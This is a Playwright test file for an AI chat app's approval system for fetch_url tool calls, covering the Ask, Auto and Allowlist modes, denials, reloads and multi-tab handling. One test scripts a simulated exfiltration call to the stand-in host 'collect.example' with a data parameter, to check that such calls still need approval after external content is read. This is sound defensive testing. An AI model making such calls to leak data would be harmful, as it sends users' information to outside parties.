import { Innerloop } from '../drivers/innerloop.ts'
import { expect, test } from '../fixtures.ts'
import { readMessages } from '../provider/request-messages.ts'
import type { FakeProvider } from '../provider/fake-provider.ts'

const fetchUrl = (url: string) => ({ name: 'fetch_url', arguments: { url } })

/** Serves two pages and returns a message that contains their addresses. */
function prepare(provider: FakeProvider) {
  provider.pages.set('/first/page', 'The first page says ONE.')
  provider.pages.set('/second/page', 'The second page says TWO.')
  const [first, second] = [`${provider.origin}/first/page`, `${provider.origin}/second/page`]
  return { first, second, question: `Read ${first} and ${second} please.` }
}

test('two calls ask one after the other; a denial reaches the model, and results come in call order', async ({
  app,
  page,
  provider,
}) => {
  const { first, second, question } = prepare(provider)
  provider.willAnswer(
    { kind: 'calls', calls: [fetchUrl(first), fetchUrl(second)] },
    { kind: 'text', text: 'I could read one of them.' },
  )
  await app.useProvider(provider)
  await app.chat.send(question)

  await expect(app.approvals.open).toHaveCount(1)
  const card = app.approvals.open
  await expect(card).toContainText('/first/page')
  await expect(app.chat.composer).toBeFocused()
  expect(await card.getByRole('button').allInnerTexts()).toEqual(['Allow once', 'More ways to allow', 'Deny'])
  await expect(app.chat.toolCall('fetch_url').first()).toHaveAttribute('data-state', 'awaiting-approval')
  await app.approvals.answer('Deny')

  await expect(app.approvals.open).toContainText('/second/page')
  await app.approvals.answer('Allow once')
  await app.chat.expectStatus('complete')
  await expect(app.approvals.open).toHaveCount(0)
  await expect(app.chat.toolCall('fetch_url').first()).toHaveAttribute('data-state', 'denied')
  await expect(app.chat.toolCall('fetch_url').last()).toHaveAttribute('data-state', 'succeeded')
  await expect(app.chat.answer).toContainText('Allowed once')

  const results = readMessages(provider.answerRequests[1]).filter(({ role }) => role === 'tool')
  expect(results).toHaveLength(2)
  expect(results[0]?.content).toMatch(/did not allow/)
  expect(results[1]?.content).toContain('TWO')
  await page.reload()
  await expect(app.chat.toolCall('fetch_url').first()).toHaveAttribute('data-state', 'denied')
  await expect(app.chat.answer).toContainText('Allowed once')
})

test('a reload during an approval: the turn asks again, and continues after the response', async ({
  app,
  page,
  provider,
}) => {
  const { first, question } = prepare(provider)
  provider.willAnswer({ kind: 'calls', calls: [fetchUrl(first)] }, { kind: 'text', text: 'It says ONE.' })
  await app.useProvider(provider)
  await app.chat.send(question)
  await expect(app.approvals.open).toHaveCount(1)

  await page.reload()
  await expect(app.approvals.open).toHaveCount(1)
  await app.approvals.answer('Allow once')
  await app.chat.expectStatus('complete')
  await expect(app.chat.answer).toContainText('It says ONE.')
  expect(provider.answerRequests).toHaveLength(2)
})

test('after a page was read, an address that was not typed requires an approval even in mode Auto, in full, and never for always; an unreadable page counts as well', async ({
  app,
  provider,
}) => {
  const { first } = prepare(provider)
  const leak = `https://collect.example/in?data=${'x'.repeat(300)}`
  provider.willAnswer(
    { kind: 'calls', calls: [fetchUrl(first)] },
    { kind: 'calls', calls: [fetchUrl(leak)] },
    { kind: 'text', text: 'I could not.' },
  )
  await app.useProvider(provider)
  await app.approvals.chooseMode('Auto')
  await app.chat.send(`Read ${first} please.`)
  const card = app.approvals.open
  await expect(card).toContainText('external content')
  await expect(card.getByRole('group', { name: /^Address/ })).toHaveText(leak)
  await app.approvals.openMoreWays()
  expect(await card.getByRole('menuitem').allInnerTexts()).toEqual(['Allow for this chat'])
  await app.page.keyboard.press('Escape')
  await app.approvals.answer('Deny')
  await app.chat.expectStatus('complete')
  await expect(app.chat.toolCall('fetch_url').last()).toHaveAttribute('data-state', 'denied')

  const gone = `${provider.origin}/gone/page`
  provider.willAnswer(
    { kind: 'calls', calls: [fetchUrl(gone)] },
    { kind: 'calls', calls: [fetchUrl('https://collect.example/in')] },
    { kind: 'text', text: 'I could not.' },
  )
  await app.sessions.startNew()
  await app.approvals.chooseMode('Auto')
  await app.chat.send(`Read ${gone} please.`)
  await expect(app.approvals.open).toContainText('external content')
  await expect(app.chat.toolCall('fetch_url').first()).toHaveAttribute('data-state', 'failed')
  await app.approvals.answer('Deny')
  await app.chat.expectStatus('complete')
})

test('an approval is allowed in another tab: the turn continues in its own tab', async ({
  app,
  context,
  page,
  provider,
}) => {
  const { first, question } = prepare(provider)
  provider.willAnswer({ kind: 'calls', calls: [fetchUrl(first)] }, { kind: 'text', text: 'It says ONE.' })
  await app.useProvider(provider)
  await app.chat.send(question)
  await expect(app.approvals.open).toHaveCount(1)

  const other = new Innerloop(await context.newPage())
  await other.page.goto(page.url())
  await other.approvals.answer('Allow once')
  await expect(app.chat.answer).toContainText('It says ONE.')
  await app.chat.expectStatus('complete')
  await expect(app.approvals.open).toHaveCount(0)
  await expect(other.chat.answer).toContainText('It says ONE.')
})

test('the asking tab is closed: another tab responds, and shows the rest live', async ({
  app,
  context,
  page,
  provider,
}) => {
  const { first, question } = prepare(provider)
  const text = Array.from({ length: 200 }, (_, index) => `word${index}`).join(' ')
  provider.willAnswer(
    { kind: 'calls', calls: [fetchUrl(first)] },
    { kind: 'text', text, tokensPerSecond: 40 },
  )
  await app.useProvider(provider)
  await app.chat.send(question)
  await expect(app.approvals.open).toHaveCount(1)
  const other = new Innerloop(await context.newPage())
  await other.page.goto(page.url())
  await expect(other.approvals.open).toHaveCount(1)
  await page.close()
  await other.approvals.answer('Allow once')
  await expect(other.chat.answer).toContainText('word5')
  await other.chat.expectStatus('streaming')
  await other.chat.stop()
  await other.chat.expectStatus('stopped')
})

test('a stop during an approval cancels the call, and nothing was fetched', async ({ app, provider }) => {
  const { first, question } = prepare(provider)
  provider.willAnswer({ kind: 'calls', calls: [fetchUrl(first)] })
  await app.useProvider(provider)
  await app.chat.send(question)
  await expect(app.approvals.open).toHaveCount(1)
  await app.chat.stop()
  await app.chat.expectStatus('stopped')
  await expect(app.approvals.open).toHaveCount(0)
  await expect(app.chat.toolCall('fetch_url')).toHaveAttribute('data-state', 'cancelled')
  expect(provider.requests.filter(({ url }) => url.startsWith('/first'))).toEqual([])
})

test(
  'always allowed: another chat does not ask until the rule is removed in Settings',
  { tag: '@turn-1' },
  async ({ app, provider }) => {
    const { first, question } = prepare(provider)
    const [call, text] = [
      { kind: 'calls', calls: [fetchUrl(first)] } as const,
      { kind: 'text', text: 'Read.' } as const,
    ]
    provider.willAnswer(call, text, call, text, call, text)
    await app.useProvider(provider)
    await app.chat.send(question)
    await app.approvals.answer('Always allow')
    await app.chat.expectStatus('complete')

    await app.sessions.startNew()
    await app.chat.ask(question)
    await expect(app.chat.toolCall('fetch_url')).toHaveAttribute('data-state', 'succeeded')

    await app.approvals.openSettings()
    await expect(app.approvals.remembered.getByRole('listitem')).toHaveCount(1)
    await app.approvals.remove(app.approvals.remembered, 'fetch_url')
    await app.open()
    await app.chat.send(question)
    await expect(app.approvals.open).toHaveCount(1)
    await app.approvals.answer('Allow once')
    await app.chat.expectStatus('complete')
  },
)

test('the mode of a chat is made stricter at once and looser after a confirmation, and is Ask again in the next chat', async ({
  app,
  page,
  provider,
}) => {
  const { first, question } = prepare(provider)
  const fetched = { kind: 'calls', calls: [fetchUrl(first)] } as const
  provider.willAnswer(fetched, { kind: 'text', text: 'Read without asking.' })
  await app.useProvider(provider)
  await expect(app.approvals.modeButton).toHaveAccessibleName('Mode: Ask')
  await app.approvals.chooseMode('Auto')
  await app.chat.ask(question)
  await expect(app.chat.answer).toContainText('Read without asking.')

  await app.approvals.chooseMode('Ask')
  provider.willAnswer(fetched, { kind: 'text', text: 'Read after asking.' })
  await app.chat.send(question)
  await expect(app.approvals.open).toHaveCount(1)

  await app.approvals.modeButton.click()
  await page.getByRole('listbox', { name: 'Modes' }).getByRole('option', { name: 'Auto' }).click()
  await page
    .getByRole('dialog', { name: 'Use Auto in this chat?' })
    .getByRole('button', { name: 'Use Auto' })
    .click()
  await expect(app.approvals.modeButton).toHaveAccessibleName('Mode: Auto')
  await expect(app.approvals.open).toHaveCount(1)
  await app.approvals.answer('Allow once')
  await expect(app.chat.answer).toContainText('Read after asking.')

  await app.sessions.startNew()
  await expect(app.approvals.modeButton).toHaveAccessibleName('Mode: Ask')
})

test('in mode Allowlist, calls that match a pattern run and others ask', async ({ app, provider }) => {
  const { first, second, question } = prepare(provider)
  provider.willAnswer(
    { kind: 'calls', calls: [fetchUrl(first), fetchUrl(second)] },
    { kind: 'text', text: 'Both.' },
  )
  await app.useProvider(provider)
  await app.approvals.addPattern('*/first*')
  await app.open()
  await app.approvals.chooseMode('Allowlist')
  await app.chat.send(question)
  await expect(app.approvals.open).toContainText('/second/page')
  await app.approvals.answer('Allow once')
  await app.chat.expectStatus('complete')
  const results = readMessages(provider.answerRequests[1]).filter(({ role }) => role === 'tool')
  expect(results.map(({ content }) => /ONE|TWO/.exec(content)?.[0])).toEqual(['ONE', 'TWO'])
})
